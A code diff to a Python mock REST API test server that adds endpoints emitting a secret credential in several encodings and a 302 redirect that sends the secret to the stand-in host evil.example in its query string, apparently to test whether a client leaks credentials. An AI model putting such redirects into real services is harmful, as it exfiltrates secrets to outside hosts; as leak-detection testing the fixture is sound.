@@ -1,5 +1,6 @@
 """Somebody's REST API: it remembers what it was sent, and answers as its path says."""
 
+import base64
 import http.server
 import json
 import threading
@@ -48,6 +49,19 @@ paths:
     get: { operationId: drops, responses: { 200: { description: Half of it } } }
   /stream:
     get: { operationId: stream, responses: { 200: { description: Pieces } } }
+  /styled/{shape}:
+    get:
+      operationId: styled
+      parameters:
+        - { name: shape, in: path, required: true, style: matrix, schema: { type: array, items: { type: string } } }
+        - { name: flat, in: query, explode: false, schema: { type: array, items: { type: string } } }
+        - { name: session, in: cookie, required: true, schema: { type: string } }
+      responses: { 200: { description: It } }
+  /repeat/{how}:
+    get:
+      operationId: repeat
+      parameters: [{ name: how, in: path, required: true, schema: { type: string } }]
+      responses: { 200: { description: What it was sent } }
   /moved:
     get: { responses: { 302: { description: Elsewhere } } }
 components:
@@ -103,6 +117,8 @@ class Handler(http.server.BaseHTTPRequestHandler):
             return None
         if path == "/v1/stream":
             return self.pieces()
+        if path.startswith("/v1/repeat/"):
+            return self.repeat(path.rsplit("/", 1)[1])
         if path == "/v1/moved":
             return self.send(302, b"", Location="/v1/stations/first?units=C")
         said = {"path": urllib.parse.unquote(path), "query": query, "body": body.decode() or None}
@@ -129,6 +145,21 @@ class Handler(http.server.BaseHTTPRequestHandler):
         self.end_headers()
         if self.command != "HEAD":
             self.wfile.write(body)
+
+    def repeat(self, how):
+        here = f"http://127.0.0.1:{self.server.server_port}"
+        quoted = urllib.parse.quote_plus(SECRET)
+        if how == "links":
+            links = f'<{here}/v1/stations/2?page=2>; rel="next"; title="a <b> c", <https://other.example/x>; rel=about'
+            return self.send(200, {}, **{"Link": links, "Content-Location": "first#part"})
+        if how == "away":
+            return self.send(302, b"", Location=f"https://evil.example/?k={quoted.lower()}")
+        if how == "switch":
+            self.send_response(101)
+            self.send_header("Upgrade", "websocket")
+            return self.end_headers()
+        forms = [SECRET, quoted, quoted.replace("%2F", "%2f").replace("%2B", "%2b"), json.dumps(SECRET).replace("/", "\\/"), base64.b64encode(SECRET.encode()).decode()]
+        return self.send(200, " ".join(forms).encode())
 
     def pieces(self):
         """The credential, torn in two."""
